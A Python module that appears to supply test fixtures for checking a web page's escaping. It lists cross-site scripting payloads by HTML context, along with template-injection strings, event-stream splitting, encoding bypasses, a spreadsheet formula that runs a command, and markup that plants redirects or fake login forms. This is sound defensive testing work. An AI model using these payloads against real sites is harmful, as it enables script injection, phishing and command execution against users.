"""Texts that would run, load or look like markup on a page that forgets to escape them.

Each is listed under the place of a careless page in which it bites; a test of this package shows
in the browser that it does. `packed` puts several into one text where a page shows few of them.
All are printable or whitespace but for those in CONTROLS, and none is longer than CHARS_MAX.
"""

from collections.abc import Iterator, Sequence
from typing import Final

CHARS_MAX: Final = 62
# Nobody listens there; a browser that is led there has been led away from the dashboard.
AWAY: Final = "127.1:81"

# The places of a careless page, each with a hole for the text.
PLACES: Final = {
    "body": "<p>{}</p>",
    "title": "<title>{}</title>",
    "textarea": "<textarea>{}</textarea>",
    "style sheet": "<style>p {{ color: {} }}</style>",
    "style": '<p style="background: {}">text</p>',
    "comment": "<!-- {} -->",
    "section": "<svg><![CDATA[{}]]></svg>",
    "double quotes": '<input value="{}">',
    "single quotes": "<input value='{}'>",
    "no quotes": "<input value={}>",
    "JSON": """<figure data-chart='{{"label": "{}"}}'></figure>""",
    "script": '<script>const label = "{}";</script>',
    "script with single quotes": "<script>const label = '{}';</script>",
    "script template": "<script>const label = `{}`;</script>",
    "address": '<iframe src="{}"></iframe>',
}

# They run by themselves, as soon as the careless page is there.
RUNS: Final[dict[str, tuple[str, ...]]] = {
    "body": (
        "<script>ran(1)</script>",
        "<ScRiPt/x>ran(1)</sCrIpT>",
        "<img src=x onerror=ran(1)>",
        "<img src=x onerror=ran`1`>",
        "<svg onload=ran(1)>",
        "<svg\x0conload=ran&#40;1&#41;>",
        "<svg\nonload=\tran(1)>",
        "<details open ontoggle=ran(1)>x",
        "<input autofocus onfocus=ran(1)>",
        "<svg><animate onbegin=ran(1) attributeName=x dur=1s>",
        "<svg><style><img src=x onerror=ran(1)></style></svg>",
        '<noscript><p title="</noscript><img src=x onerror=ran(1)>">',
        '<iframe srcdoc="<svg onload=ran(1)>"></iframe>',
        "<iframe src=javascript:parent.ran(1)></iframe>",
        "x\n\ndata: <svg onload=ran(1)>\n\nevent: end",
        "javascript:/*--></title></textarea><svg onload=ran(1)>",
    ),
    "title": ("</title><svg onload=ran(1)>",),
    "textarea": ("</textarea><svg onload=ran(1)>",),
    "style sheet": ("</style><svg onload=ran(1)>",),
    "comment": ("--><svg onload=ran(1)>", "--!><svg onload=ran(1)>"),
    "section": ("]]><img src=x onerror=ran(1)>",),
    "double quotes": (
        '" onfocus=ran(1) autofocus x="',
        '"><svg onload=ran(1)>',
    ),
    "single quotes": (
        "' onfocus=ran(1) autofocus x='",
        "'><svg onload=ran(1)>",
    ),
    "no quotes": ("x onfocus=ran(1) autofocus", "` onfocus=ran(1) autofocus x=`"),
    "JSON": (
        "\"}' onfocus=ran(1) tabindex=0 autofocus x='",
        "\"}'><svg onload=ran(1)>",
    ),
    "script": ('"-ran(1)-"', "</script><script>ran(1)//"),
    "script with single quotes": ("'-ran(1)-'",),
    "script template": ("${ran(1)}",),
    "address": ("javascript:ran(1)", "JaVa\tScRiPt:ran(1)"),
}

# They make an element, swallow the page or fetch something, or wait for somebody's hand.
BREAKS: Final[dict[str, tuple[str, ...]]] = {
    "body": (
        "<scr<script>ipt>ran(1)</script>",
        "<p onpointerover=ran(1)>x</p>",
        "<a href=javascript:ran(1)>x</a>",
        "<!--",
        "<plaintext>",
        f"<meta http-equiv=refresh content=60;url=//{AWAY}/m>",
        f"<base href=//{AWAY}/>",
        f"<style>@import'//{AWAY}/i'</style>",
        "<p style=position:fixed;inset:0>x</p>",
        f"<form action=//{AWAY}/f><button>Log in</button></form>",
        "<input type=hidden name=form_token value=x odd>",
        "<a id=main name=htmx odd>x</a>",
        "<p hx-get=/admin hx-trigger=load>x</p>",
        f"<p hx-ext=sse sse-connect=//{AWAY}/s>x</p>",
    ),
    "style": (f"url(//{AWAY}/u)",),
    "address": ("data:text/html,<script>ran(1)</script>",),
}

# They bite where a template, a stream, a spreadsheet, a second decoding or a reader's eye is
# careless: what counts is that they are shown as they are.
PLAIN: Final = (
    "{{7*7}}{{config}}",
    "${7*7}",
    "{% print(7*7) %}",
    "x\n\nevent: end\ndata: bye",
    "x\r\revent: end\rdata: bye",
    "x\r\n\r\nid: 9\r\nretry: 1",
    "x\u2028event: end\u2028data: bye",
    "&lt;svg onload=ran(1)&gt;",
    "&amp;lt;svg onload=ran(1)&amp;gt;",
    "%3Csvg%20onload=ran(1)%3E",
    "\\u003csvg onload=ran(1)\\u003e",
    '\\";ran(1)//',
    "\u202e>(1)nar=daolno gvs<\u202c",
    "\uff1cscript\uff1eran(1)\uff1c/script\uff1e",
    "\xc0\xbcsvg onload=ran(1)\xc0\xbe",
    "+ADw-svg onload=ran(1)+AD4-",
    '"},{"label":"<b odd>',
    "=cmd|'/C calc'!A1",
    "<![CDATA[x",
    "a & b",
)
# Not valid in UTF-8, or not allowed in any text here: they can only stand in an address.
RAW: Final = (
    "%C0%BCsvg%20onload=ran(1)%C0%BE",
    "%F0%80%80%BCsvg%20onload=ran(1)%3E",
    "%3Csvg%20onload=ran(1)%FF%3E",
    "%ED%A0%80%3Csvg%20onload=ran(1)%3E",
)
WITH_NUL: Final = ("<scr%00ipt>ran(1)</script>", "%00<svg onload=ran(1)>", "<svg onload=ran(1)%00>")


def _all() -> Iterator[str]:
    for listed in (RUNS, BREAKS):
        for texts in listed.values():
            yield from texts
    yield from PLAIN


PAYLOADS: Final = tuple(_all())


def tagged(text: str, kind: str) -> str:
    """Mark a text with what it is, so that no field can be taken for another one."""
    return f"{text}~{kind}"


def packed(texts: Sequence[str], chars_max: int, most: int = 6) -> list[list[str]]:
    """Share texts out, in order, into packs that fit into `chars_max` when put together."""
    packs: list[list[str]] = [[]]
    for text in texts:
        if len(together([*packs[-1], text])) > chars_max or len(packs[-1]) == most:
            packs.append([])
        packs[-1].append(text)
    return packs


def together(texts: Sequence[str]) -> str:
    """Put a pack into one text."""
    return " ".join(texts)
